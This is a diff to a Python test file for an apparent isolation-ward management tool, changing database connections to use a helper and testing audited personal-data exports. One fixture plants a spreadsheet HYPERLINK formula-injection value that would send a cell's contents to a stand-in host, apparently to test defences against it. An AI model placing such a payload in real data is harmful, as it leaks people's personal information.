@@ -18,7 +18,7 @@ from isolation_desk.domain.errors import DomainError
 from isolation_desk.domain.registration import validate_registration
 from isolation_desk.messages import describe
 
-from .helpers import DEMO_USER, run, run_as
+from .helpers import DEMO_USER, run, run_as, site_connection
 
 EVIL = '=HYPERLINK("http://x.example/?d="&A1,"点这里")'
 
@@ -28,7 +28,7 @@ def site(tmp_path_factory):
     path = tmp_path_factory.mktemp("marked") / "site.sqlite"
     r = run("demo", "--db", str(path), "--rooms", "40", "--seed", "2")
     assert r.exit_code == 0, r.output
-    conn = sqlite3.connect(path)
+    conn = site_connection(path)
     # a name that came in before names were checked (or from an old import)
     conn.execute("UPDATE people SET name = ? WHERE id = (SELECT min(person_id) FROM stays "
                  "WHERE status = 'in_isolation')", (EVIL,))
@@ -38,7 +38,7 @@ def site(tmp_path_factory):
 
 
 def _audits(path, action="export_personal") -> int:
-    conn = sqlite3.connect(path)
+    conn = site_connection(path)
     try:
         return conn.execute("SELECT count(*) FROM audit WHERE action = ?", (action,)).fetchone()[0]
     finally:
@@ -99,7 +99,7 @@ def test_a_completed_export_is_audited_under_the_person(site, tmp_path):
     before = _audits(site)
     out = tmp_path / "o.json"
     assert run_as("export", "occupants", "--db", str(site), "--out", str(out)).exit_code == 0
-    conn = sqlite3.connect(site)
+    conn = site_connection(site)
     actor, = conn.execute("SELECT actor FROM audit WHERE action = 'export_personal' "
                           "ORDER BY id DESC LIMIT 1").fetchone()
     conn.close()
